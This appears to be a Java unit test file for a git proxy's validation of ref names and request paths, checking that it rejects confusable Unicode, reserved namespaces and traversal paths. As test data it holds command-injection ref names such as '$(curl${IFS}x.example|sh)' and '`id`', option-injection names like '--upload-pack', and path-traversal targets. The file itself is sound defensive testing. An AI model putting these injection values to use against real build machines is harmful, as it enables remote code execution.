package dev.countersign.proxy.git;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RefNamesTest {

  private static final List<String> WRITABLE = List.of("refs/heads/", "refs/tags/");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "refs/for/main",
        "refs/for/main%submit",
        "refs/drafts/main",
        "refs/merge-requests/1/head",
        "refs/pull/1/head",
        "refs/meta/config",
        "refs/notes/commits",
        "refs/replace/0123456789012345678901234567890123456789",
        "HEAD",
        "main"
      })
  void git04_takesNoOtherNamespaces(String ref) {
    assertThat(RefNames.fault(ref, WRITABLE)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "refs/heads//main",
        "refs/heads/main.lock",
        "refs/heads/a..b",
        "refs/heads/a b",
        "refs/heads/a\u0001b",
        "refs/heads/.a",
        "refs/heads/cafe\u0301",
        "refs/heads/m\u0430in",
        "refs/heads/ma\u200bin",
        "refs/heads/ma\u034fin",
        "refs/heads/ma\u115fin",
        "refs/heads/ma\u2028in",
        "refs/heads/ma\u1680in",
        "refs/heads/ma\u2800in",
        "refs/heads/main\ufe0f",
        "refs/heads/main\udb40\udd00",
        "refs/heads/main.lock/x",
        "refs/heads/\uff4dain"
      })
  void git05_takesNoNamesThatReadAsOthers(String ref) {
    assertThat(RefNames.fault(ref, WRITABLE)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(strings = {"refs/heads/main", "refs/heads/café", "refs/heads/ветка", "refs/tags/v1"})
  void takesTheOthers(String ref) {
    assertThat(RefNames.fault(ref, WRITABLE)).isEmpty();
  }

  /** Ours: build machines write names of branches into command lines, and git takes them all. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "refs/heads/agent/$(curl${IFS}x.example|sh)",
        "refs/heads/agent/`id`",
        "refs/heads/agent/a;id",
        "refs/heads/agent/a\"&&id",
        "refs/heads/agent/a>b",
        "refs/heads/-x",
        "refs/tags/--upload-pack",
        "refs/heads/HEAD",
        "refs/heads/refs/heads/main",
        "refs/heads/0123456789012345678901234567890123456789",
        "refs/tags/1f0c2ab",
        "refs/heads/1F0C2AB6D1"
      })
  void git05_makesNoNamesThatAProgramTakesForSomethingElse(String ref) {
    assertThat(RefNames.fault(ref, WRITABLE)).isEmpty();
    assertThat(RefNames.trap(ref)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "refs/heads/fix/#12-don't-crash",
        "refs/heads/dependabot/npm_and_yarn/@types/node-20.1",
        "refs/heads/feature/a(b)+c=d,e!",
        "refs/heads/agent/x-HEAD",
        "refs/tags/v1.0-rc.1",
        "refs/tags/20261127",
        "refs/heads/deadbeef",
        "refs/heads/agent/1f0c2ab",
        "refs/tags/1f0c2"
      })
  void makesTheOthers(String ref) {
    assertThat(RefNames.fault(ref, WRITABLE).or(() -> RefNames.trap(ref))).isEmpty();
  }

  @Test
  void git33_knowsFourRequestsAndNoOthers() {
    assertThat(GitRequest.read("GET", "/git/payments/info/refs?service=git-upload-pack"))
        .isPresent();
    for (String target :
        List.of(
            "/git/payments/HEAD",
            "/git/payments/info/refs",
            "/git/payments/info/refs?service=git-upload-archive",
            "/git/payments/info/refs?service=git-upload-pack&x=1",
            "/git/payments/objects/info/packs",
            "/git/payments/objects/ab/cdef",
            "/git/payments/raw/main/x",
            "/git/api/v4/projects")) {
      assertThat(GitRequest.read("GET", target)).as(target).isEmpty();
    }
    assertThat(GitRequest.read("PUT", "/git/payments/git-receive-pack")).isEmpty();
    assertThat(GitRequest.read("PROPFIND", "/git/payments/git-receive-pack")).isEmpty();
  }

  @Test
  void git35_readsNamesLetterByLetter() {
    for (String target :
        List.of(
            "/git/a/../secret/git-receive-pack",
            "/git/%2e%2e/git-receive-pack",
            "/git//payments/git-receive-pack",
            "/git/pay%6dents/git-receive-pack",
            "/git/org/payments/git-receive-pack",
            "/git/.payments/git-receive-pack")) {
      assertThat(GitRequest.read("POST", target)).as(target).isEmpty();
    }
  }
}
